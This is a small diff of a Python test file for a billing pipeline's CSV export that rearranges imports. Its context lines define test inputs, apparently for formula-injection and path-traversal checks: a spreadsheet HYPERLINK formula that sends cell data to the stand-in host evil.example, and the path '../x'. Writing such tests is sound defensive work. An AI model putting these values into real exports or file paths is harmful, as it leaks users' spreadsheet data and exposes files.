@@ -19,8 +19,8 @@ import pytest
 from billing_pipeline.api.auth import issue_token
 from billing_pipeline.exports import FORMULA_STARTS, safe_text, to_csv
 from billing_pipeline.sample_data import generate_month
-from billing_pipeline_tests.api.conftest import in_process_client
-from billing_pipeline_tests.test_month_integrity import ASSETS, JAN, failure_message, run
+from billing_pipeline_tests.api_support import in_process_client
+from billing_pipeline_tests.month_support import ASSETS, JAN, failure_message, run
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"pay here")'
 PATH = "../x"
